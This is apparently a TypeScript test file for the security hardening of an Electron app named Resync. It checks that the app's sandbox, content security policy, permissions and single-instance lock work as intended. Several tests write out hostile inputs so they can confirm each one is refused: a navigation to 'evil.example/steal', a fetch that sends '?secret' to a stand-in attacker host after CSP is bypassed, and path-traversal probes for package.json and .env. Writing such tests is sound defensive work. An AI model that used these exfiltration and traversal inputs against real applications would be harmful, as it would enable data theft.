/** The Electron host as a person meets it: the built bundles on the stand-in, attacked from the page. */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
import { lockDataDirectory } from '../../src-main/database/lock.ts';
import { type ElectronStandIn, launchElectronStandIn, startStandIn } from '../fakes/electron/launchElectronStandIn.ts';

const dataDir = mkdtempSync(join(tmpdir(), 'resync-electron-'));
const args = ['--demo', '--data-dir', dataDir];
let app: ElectronStandIn;
let origin: string;

beforeAll(async () => {
  app = await launchElectronStandIn({ args });
  origin = new URL(app.page.url()).origin;
});

afterAll(async () => {
  await app.close();
  rmSync(dataDir, { recursive: true, force: true });
});

/** What happens from here on. */
function next(name: string) {
  return app.waitFor(name, app.events.length);
}

test('the window is sandboxed and hidden until it has something to show', () => {
  const { detail } = app.events.find(({ name }) => name === 'window-created')!;
  expect(detail['isShown']).toBe(false);
  expect(detail['webPreferences']).toMatchObject({ sandbox: true, contextIsolation: true, nodeIntegration: false, webSecurity: true, webviewTag: false });
  const names = app.events.map(({ name }) => name);
  expect(names.indexOf('window-shown')).toBeGreaterThan(names.indexOf('window-created'));
});

test('the page reaches the core through its port: the demo is labelled', async () => {
  await app.page.getByText('DEMO').first().waitFor();
});

test('the page sees the handshake and nothing of Electron or Node', async () => {
  const seen = await app.page.evaluate(() => ({
    host: Object.keys((window as unknown as { resyncHost: object }).resyncHost),
    leaked: ['require', 'process', 'module', 'ipcRenderer', 'electron', 'standInSend', 'standInReceive'].filter((name) => name in window),
  }));
  expect(seen).toEqual({ host: ['kind', 'connect'], leaked: [] });
});

test('the document carries the fence', async () => {
  const response = await app.page.reload();
  expect(response!.headers()['content-security-policy']).toBe(
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; connect-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'none'; require-trusted-types-for 'script'",
  );
  expect(response!.headers()['x-content-type-options']).toBe('nosniff');
  await app.page.getByText('DEMO').first().waitFor();
});

test('leaving for http://evil.example is refused, and the page stays', async () => {
  const refused = next('navigation-refused');
  await app.page.evaluate(() => {
    location.href = 'http://evil.example/steal';
  });
  expect((await refused).detail).toEqual({ url: 'http://evil.example/steal' });
  await app.page.getByText('DEMO').first().waitFor();
  expect(app.events.some(({ name }) => name === 'dialog')).toBe(false);
});

test('a new window is denied; an https link opens outside only after a person said so', async () => {
  const open = () => app.page.evaluate(() => void window.open('https://docs.example/page', '_blank', 'noopener,noreferrer'));
  const refused = next('window-refused');
  const asked = next('dialog');
  await open();
  expect((await refused).detail).toEqual({ url: 'https://docs.example/page' });
  expect((await asked).detail).toMatchObject({ detail: 'https://docs.example/page' });
  expect(app.events.some(({ name }) => name === 'opened-outside')).toBe(false);

  app.send({ kind: 'answer-dialog', button: 1 });
  const outside = next('opened-outside');
  await open();
  expect((await outside).detail).toEqual({ url: 'https://docs.example/page' });
  expect(app.events.some(({ name }) => name === 'request-left' || name === 'window-opened')).toBe(false);
});

test('every permission but writing text to the clipboard is denied', async () => {
  const states = await app.page.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read', 'clipboard-write'];
    const all = await Promise.all(names.map((name) => navigator.permissions.query({ name: name as PermissionName })));
    return Object.fromEntries(all.map(({ state }, index) => [names[index], state]));
  });
  expect(states).toEqual({
    geolocation: 'denied',
    notifications: 'denied',
    camera: 'denied',
    microphone: 'denied',
    midi: 'denied',
    'clipboard-read': 'denied',
    'clipboard-write': 'granted',
  });
});

test('even a page without its fence reaches nothing outside', async () => {
  const cdp = await app.page.context().newCDPSession(app.page);
  await cdp.send('Page.setBypassCSP', { enabled: true });
  await app.page.reload();
  const refused = next('request-refused');
  const outcome = await app.page.evaluate(() =>
    fetch('https://evil.example/?secret').then(
      () => 'reached',
      () => 'refused',
    ),
  );
  expect(outcome).toBe('refused');
  expect((await refused).detail).toEqual({ url: 'https://evil.example/?secret' });
  await cdp.send('Page.setBypassCSP', { enabled: false });
  await cdp.detach();
});

test.each(['..%2f..%2fpackage.json', '%2e%2e/%2e%2e/package.json', '..%5c..%5cpackage.json', '.env', 'assets/none.js'])(
  'app://resync/%s is refused',
  async (path) => {
    const response = await app.page.goto(`${origin}/${path}`);
    expect(response!.status()).toBe(404);
    expect(await response!.text()).not.toContain('resync"');
  },
);

test('a second start ends at once and brings the first window to the front', async () => {
  const focused = next('window-focused');
  const second = startStandIn({ args });
  expect(await second.exited).toBe(0);
  await focused;
  expect(second.events).toEqual([]);
});

test('closing the window leaves the core at work; starting again opens a window on it', async () => {
  const closed = next('window-closed');
  app.send({ kind: 'close-window' });
  await closed;
  const ready = next('window-ready');
  expect(await startStandIn({ args }).exited).toBe(0);
  await ready;
  const page = await app.newestPage();
  await page.getByText('DEMO').first().waitFor();
});

test('data in use by another Resync is said in a sentence, and nothing starts', async () => {
  const taken = mkdtempSync(join(tmpdir(), 'resync-taken-'));
  onTestFinished(() => rmSync(taken, { recursive: true, force: true }));
  const lock = lockDataDirectory(taken);
  onTestFinished(() => lock.release());
  const started = startStandIn({ args: ['--data-dir', taken] });
  expect((await started.waitFor('error-box')).detail).toMatchObject({
    title: 'Resync cannot start',
    content: expect.stringContaining(`process ${process.pid}`),
  });
  expect(await started.exited).toBe(1);
  expect(started.events.some(({ name }) => name === 'window-created')).toBe(false);
});

test('Quit in the tray ends the process cleanly', async () => {
  app.send({ kind: 'click-tray', label: 'Quit' });
  expect(await app.exited).toBe(0);
});
